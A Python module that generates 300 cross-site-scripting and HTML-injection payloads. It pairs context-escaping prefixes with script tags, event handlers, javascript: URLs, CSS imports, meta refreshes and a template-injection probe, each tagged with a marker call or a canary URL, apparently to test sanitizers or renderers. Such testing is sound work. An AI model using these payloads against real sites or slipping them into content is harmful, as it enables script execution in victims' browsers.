"""Texts that want to be more than text: 300 of them, each of which runs where it is let.

`{n}` stands for a number that is told when it runs, `{canary}` for an address to be visited.
"""

from __future__ import annotations

from itertools import product

_LEADS = (
    "",
    '">',
    "'>",
    "</title>",
    "</style>",
    "</textarea>",
    "</script>",
    "</div></main></body>",
    "--><!-- --!>",
    "]]>",
)
_DEEDS = (
    "<script>ran({n})</script>",
    "<ScRiPt/x>ran({n})</sCrIpT >",
    "<script src={canary}/{n}.js></script>",
    "<img src=x onerror=ran({n})>",
    "<img src={canary}/{n}.png>",
    "<img srcset='{canary}/{n}.png 2x'>",
    "<svg onload=ran({n})>",
    "<svg><script>ran({n})</script></svg>",
    "<svg><image href={canary}/{n}.svg /></svg>",
    "<body onload=ran({n})>",
    "<iframe srcdoc='<script>parent.ran({n})</script>'></iframe>",
    "<iframe src='javascript:parent.ran({n})'></iframe>",
    "<iframe src={canary}/{n}></iframe>",
    "<object data={canary}/{n}></object>",
    "<embed src={canary}/{n}>",
    "<details open ontoggle=ran({n})>x</details>",
    "<input autofocus onfocus=ran({n})>",
    "<video><source onerror=ran({n})></video>",
    "<video poster={canary}/{n}.jpg></video>",
    "<audio src=x onerror=ran({n})></audio>",
    "<link rel=stylesheet href={canary}/{n}.css>",
    "<link rel=preload as=image href={canary}/{n}.png><link rel=icon href={canary}/i{n}.png>",
    "<style>@import '{canary}/{n}.css'; * {{ background: url({canary}/{n}.png) }}</style>",
    "<p style='background: url({canary}/{n}.png)'>x</p>",
    "<meta http-equiv=refresh content='0; url={canary}/{n}'>",
    "<base href={canary}/><img src={n}.png>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran({n})></style></mglyph></table>",
    "<a id=x href='javascript:ran({n})'>x</a><form action='javascript:ran({n})'><button>x</button>",
    "{{{{ ''.__class__.__mro__ }}}}{{% set x = 1 %}}<script>ran({n})</script>",
    "&lt;script&gt;ran({n})&lt;/script&gt;&#60;img src=x onerror=ran({n})&#62;<!--",
)
DEEDS = len(_DEEDS)
"""So many have no lead."""
COUNT = len(_LEADS) * DEEDS


def payloads(canary: str) -> list[str]:
    """Return all of them; those of one lead stand together."""
    return [
        lead + deed.format(n=n, canary=canary)
        for n, (lead, deed) in enumerate(product(_LEADS, _DEEDS))
    ]


def bundles(canary: str, size: int) -> list[str]:
    """Return all of them again, so many in one text: one that is let breaks out all the same."""
    texts = payloads(canary)
    return [" ".join(texts[n : n + size]) for n in range(0, COUNT, size)]
